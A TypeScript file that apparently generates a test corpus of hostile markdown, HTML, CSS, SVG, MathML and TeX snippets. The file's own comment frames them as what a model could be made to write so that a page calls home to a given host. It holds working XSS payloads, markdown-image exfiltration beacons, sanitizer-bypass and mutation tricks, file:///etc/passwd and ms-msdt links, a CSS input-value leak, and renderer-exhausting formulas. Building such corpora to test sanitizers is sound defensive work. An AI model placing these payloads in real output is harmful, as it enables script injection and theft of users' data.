/** What a model could be made to write so that a careless page loads, opens or runs something. `host` is where it would call home. */
export function hostileSnippets(host: string): string[] {
  const url = `http://${host}`
  const run = "window.PWNED_script=1;fetch('/pwned')"
  const markdown = [
    `![image](${url}/image.png)`,
    `![image][reference]\n\n[reference]: ${url}/reference.png`,
    `![](${url}/a.png "title")`,
    `![a](<${url}/angle.png>)`,
    `[![nested](${url}/nested.png)](${url}/link)`,
    `[run](javascript:${run})`,
    `[run](JaVaScRiPt:${run})`,
    `[run](java\tscript:${run})`,
    `[run](&#106;avascript:${run})`,
    `[run](&#x6A;avascript:${run})`,
    `[run](vbscript:${run})`,
    `[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORURfZGF0YT0xPC9zY3JpcHQ+)`,
    `[file](file:///etc/passwd)`,
    `[smb](smb://${host}/share)`,
    `[unc](\\\\${host}\\share)`,
    `[protocol relative](//${host}/relative)`,
    `<${url}/autolink>`,
    `<javascript:${run}>`,
    `[a](${url}/x" onmouseover="${run})`,
    `[a](<javascript:${run}>)`,
    `![a](javascript:${run})`,
    `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
    `[^note]\n\n[^note]: ![x](${url}/footnote.png)`,
    `| a |\n|---|\n| ![x](${url}/table.png) |`,
    `- [ ] ![x](${url}/task.png)`,
    `# ![x](${url}/heading.png)`,
    `> ![x](${url}/quote.png)`,
    `www.${host}/literal`,
    `\`\`\`html\n<img src="${url}/fence.png">\n\`\`\``,
    `    <img src="${url}/indented.png">`,
    `\`<img src="${url}/code.png">\``,
    `[link]: javascript:${run}\n\n[link]`,
  ]
  const sources = ['img', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'input type=image', 'frame', 'portal']
  const links = ['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'modulepreload']
  const events = [
    'onerror',
    'onload',
    'onclick',
    'onfocus autofocus',
    'ontoggle open',
    'onanimationstart',
    'onpointerenter',
  ]
  const html = [
    ...sources.map((name) => `<${name} src="${url}/${name.replaceAll(' ', '-')}">`),
    ...links.map((rel) => `<link rel="${rel}" href="${url}/link-${rel}" as="image">`),
    ...events.map((event) => `<img src=x ${event}="${run}">`),
    ...events.map((event) => `<svg ${event}="${run}"></svg>`),
    ...events.map((event) => `<details ${event}="${run}">x</details>`),
    `<script>${run}</script>`,
    `<script src="${url}/script.js"></script>`,
    `<SCRIPT SRC=${url}/upper.js></SCRIPT>`,
    `<scr<script>ipt>${run}</script>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><image href="${url}/svg.png"/></svg>`,
    `<svg><use href="${url}/use.svg#x"/></svg>`,
    `<svg><foreignObject><img src="${url}/foreign.png"></foreignObject></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><set attributeName="href" to="javascript:${run}"/></svg>`,
    `<math><mtext><img src="${url}/math.png"></mtext></math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
    `<style>@import url(${url}/style.css);</style>`,
    `<style>body{background:url(${url}/background.png)}</style>`,
    `<style>@font-face{font-family:x;src:url(${url}/font.woff)}*{font-family:x}</style>`,
    `<div style="background:url(${url}/inline.png)">x</div>`,
    `<table background="${url}/table-background.png"><tr><td>x</td></tr></table>`,
    `<body background="${url}/body.png">`,
    `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    `<base href="${url}/">`,
    `<form action="${url}/form"><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
    `<form id=x></form><button form=x formaction="javascript:${run}">x</button>`,
    `<object data="${url}/object"></object>`,
    `<applet code="${url}/applet"></applet>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<a href="javascript:${run}" target="_blank">x</a>`,
    `<a href="${url}/ping" ping="${url}/ping">x</a>`,
    `<area href="javascript:${run}">`,
    `<img srcset="${url}/srcset.png 1x">`,
    `<picture><source srcset="${url}/picture.png"></picture>`,
    `<video poster="${url}/poster.png"></video>`,
    `<marquee onstart="${run}">x</marquee>`,
    `<isindex action="javascript:${run}">`,
    `<template><img src="${url}/template.png"></template>`,
    `<noscript><img src="${url}/noscript.png"></noscript>`,
    `<!--<img src="${url}/comment.png">-->`,
    `<![CDATA[<img src="${url}/cdata.png">]]>`,
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
    `<noembed><img title="</noembed><img src=${url}/mutation.png onerror=${run}>"></noembed>`,
    `<listing>&lt;img src=${url}/listing.png onerror=${run}&gt;</listing>`,
    `<custom-element><img src="${url}/custom.png"></custom-element>`,
    `</textarea><img src="${url}/textarea.png">`,
    `<dialog open><img src="${url}/dialog.png"></dialog>`,
  ]
  return [
    ...markdown,
    ...html,
    ...makeAddresses(host, run),
    ...makeStyles(url),
    ...makeEvents(run),
    ...makeDisguises(url, run),
    ...makeFormulas(url, run),
  ]
}

/** Addresses of every kind behind a link, an image and a definition, and in every place that text can stand in. */
function makeAddresses(host: string, run: string): string[] {
  const url = `http://${host}`
  const schemes = [
    ...[`\u0001javascript:${run}`, `javascript&colon;${run}`, `java&Tab;script:${run}`, `javascript\u200b:${run}`],
    ...[
      `feed:javascript:${run}`,
      `view-source:javascript:${run}`,
      `jar:${url}!/x`,
      `blob:${url}/x`,
      `filesystem:${url}/x`,
    ],
    ...[`data:text/html,<script>${run}</script>`, `data:image/svg+xml,<svg onload="${run}">`, `data:;base64,PHN2Zz4=`],
    ...[`ftp://${host}/x`, `ws://${host}/x`, `sftp://${host}/x`, `mailto:a@${host}`, `tel:+1`, `sms:+1`, `callto:a`],
    ...[`ms-msdt:/id`, `search-ms:query=x&crumb=location:\\\\${host}`, `vscode://file/etc/passwd`, `skillet://app/x`],
    ...[`about:srcdoc`, `chrome://gpu`, `devtools://devtools/x`, `http:${host}`, `http:/\\${host}`, `\\/\\/${host}/x`],
  ]
  const image = (name: string) => `![x](${url}/${name}.png)`
  const places = [
    ...[`**${image('strong')}**`, `_${image('emphasis')}_`, `~~${image('struck')}~~`, `1. ${image('ordered')}`],
    ...[`- - - ${image('deep')}`, `> > ${image('quotes')}`, `${image('setext')}\n===`, `###### ${image('small')}`],
    ...[`[${image('a')} ${image('b')}](${url}/two)`, `![${image('in-alt')}](${url}/outer.png)`, `a ${image('x')} b`],
    ...[`|${image('head')}|\n|:-:|\n|x|`, `![x][]\n\n[x]: ${url}/collapsed.png`, `![y]\n\n[y]: ${url}/short.png`],
    ...[`![x](${url}/spaces.png  "a\nb")`, `![x](${url}/paren(s).png)`, `![x](${url}/%2e%2e/up.png)`],
    ...[
      `[z]: <${url}/angle> 'title'\n\n![z]`,
      `http://${host}/bare`,
      `https://${host}/bare`,
      `a@${host}`,
      `<a@${host}>`,
    ],
  ]
  return [
    ...schemes.flatMap((address) => [`[x](<${address}>)`, `![x](<${address}>)`]),
    ...schemes.slice(0, 12).map((address) => `[d]\n\n[d]: <${address}>`),
    ...places,
  ]
}

/** What a style, a font or a drawing would fetch. */
function makeStyles(url: string): string[] {
  const properties = 'background-image border-image-source list-style-image cursor content mask-image filter clip-path'
  const drawings = 'feImage image use linearGradient pattern textPath mpath tref script a cursor animate'
  return [
    ...properties.split(' ').map((name) => `<p style="${name}:url(${url}/${name}.png)">x</p>`),
    ...properties.split(' ').map((name) => `<style>p{${name}:url('${url}/sheet-${name}.png')}</style>`),
    ...drawings
      .split(' ')
      .map((name) => `<svg><${name} href="${url}/${name}.svg" xlink:href="${url}/x-${name}.svg"/></svg>`),
    `<style>@import '${url}/import.css' screen;</style>`,
    `<style>p{background:image-set('${url}/set.png' 1x)}</style>`,
    `<style>@namespace url(${url}/namespace);</style>`,
    `<style>input[value^=a]{background:url(${url}/leak-a)}</style>`,
    `<p style="background:\\75rl(${url}/escaped.png)">x</p>`,
    `<p style="behavior:url(${url}/x.htc)">x</p>`,
  ]
}

function makeEvents(run: string): string[] {
  const events =
    'onmouseover onwheel onpaste oncopy ondrag oninput onchange onsubmit onreset onscroll onresize onhashchange ' +
    'onmessage onpageshow ontransitionend onbeforetoggle onsecuritypolicyviolation onkeydown onfocusin onauxclick'
  return events.split(' ').flatMap((event) => [`<p ${event}="${run}">x</p>`, `<body ${event}='${run}'>`])
}

/** Markup that becomes another once it is read a second time, and text for readers that are not here. */
function makeDisguises(url: string, run: string): string[] {
  const image = `<img src=${url}/disguised.png onerror=${run}>`
  const wrappers = 'title textarea xmp plaintext noframes iframe style script select option math svg frameset'.split(
    ' ',
  )
  return [
    ...wrappers.map((name) => `<${name}><p id="</${name}>${image}">`),
    ...wrappers.map((name) => `<math><mi><${name}>${image}</${name}></mi></math>`),
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<a title="--><!--${image}">x</a>`,
    `<!--!>${image}-->`,
    `<img/src="${url}/slash.png"/onerror=${run}>`,
    `<IMG SRC=\u0000"${url}/nul.png">`,
    `<\u017fcript>${run}</\u017fcript>`,
    `&lt;img src="${url}/entity.png"&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\\<img src="${url}/escaped.png">`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `$\\href{javascript:${run}}{x}$`,
    `$$\\includegraphics{${url}/tex.png}$$`,
    `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${run}"\n\`\`\``,
    `\`\`\`mermaid\n%%{init:{"themeCSS":"@import url(${url}/mermaid.css)"}}%%\ngraph TD\n\`\`\``,
    `\`\`\`svg\n<svg onload="${run}"/>\n\`\`\``,
    `\`\`\`"><img src=${url}/info.png>\ntext\n\`\`\``,
    `{{constructor.constructor('${run}')()}}`,
    `\u001b]8;;${url}/osc\u0007x\u001b]8;;\u0007`,
  ]
}

/** What a formula would link to, fetch, name, style, cover or never finish. */
function makeFormulas(url: string, run: string): string[] {
  const image = `<img src=${url}/formula.png onerror=${run}>`
  const bodies = [
    ...[`\\href{javascript:${run}}{x^2}`, `\\href{${url}/tex-link}{x^2}`, `\\url{${url}/tex-url}^2`],
    ...[`\\includegraphics[width=9em]{${url}/tex-picture.png}^2`, `\\htmlClass{approval}{x^2}`, `\\htmlId{root}{x^2}`],
    ...[
      `\\htmlStyle{background:url(${url}/tex-style.png)}{x^2}`,
      `\\htmlData{onclick=${run}}{x^2}`,
      `\\style{position:fixed}x^2`,
    ],
    ...[
      `\\class{overlay}{x^2}`,
      `\\id{root}{x^2}`,
      `\\data{a=b}{x^2}`,
      `\\label{root} x^2`,
      `\\ref{root}^2`,
      `\\tag{${image}} x^2`,
    ],
    ...[`\\text{${image}}^2`, `\\text{<script>${run}</script>}^2`, `\\verb|${image}|^2`, `\\operatorname{${image}}^2`],
    ...[
      `\\texttip{x^2}{${image}}`,
      `\\mathtip{x^2}{${image}}`,
      `\\toggle{x^2}{y}\\endtoggle`,
      `\\unicode{60}^2`,
      `\\char"3C img^2`,
    ],
    ...[`\\color{url(${url}/tex-color)}x^2`, `\\colorbox{${url}}{x^2}`, `\\fcolorbox{red}{url(${url}/tex-box)}{x^2}`],
    ...[`\\rule{99999em}{99999em}^2`, `\\kern{-999em}x^2`, `\\raisebox{-999em}{x^2}`, `\\llap{\\rule{99em}{99em}}^2`],
    ...[
      `\\def\\a{\\a\\a}\\a^2`,
      `\\gdef\\alpha{${image}}\\alpha^2`,
      `\\newcommand{\\frac}{x}\\frac^2`,
      `\\let\\sqrt=\\href \\sqrt{javascript:1}^2`,
    ],
    ...[
      `${'{'.repeat(2000)}x^2${'}'.repeat(2000)}`,
      `${'\\sqrt{'.repeat(500)}x^2`,
      `${'x+'.repeat(2400)}y^2`,
      `${'\\frac{a}{'.repeat(70)}x^2${'}'.repeat(70)}`,
    ],
  ]
  const marks = [
    (body: string) => `$$\n${body}\n$$`,
    (body: string) => `\\[${body}\\]`,
    (body: string) => `so \\(${body}\\) is`,
    (body: string) => `so $${body}$ is`,
    (body: string) => `\`\`\`math\n${body}\n\`\`\``,
    (body: string) => `- $$ ${body} $$`,
    (body: string) => `| a |\n|---|\n| \\(${body}\\) |`,
  ]
  return bodies.flatMap((body, at) =>
    [marks[0], marks[4], marks[1 + (at % 3)], marks[5 + (at % 2)]].map((wrap) => wrap?.(body) ?? ''),
  )
}
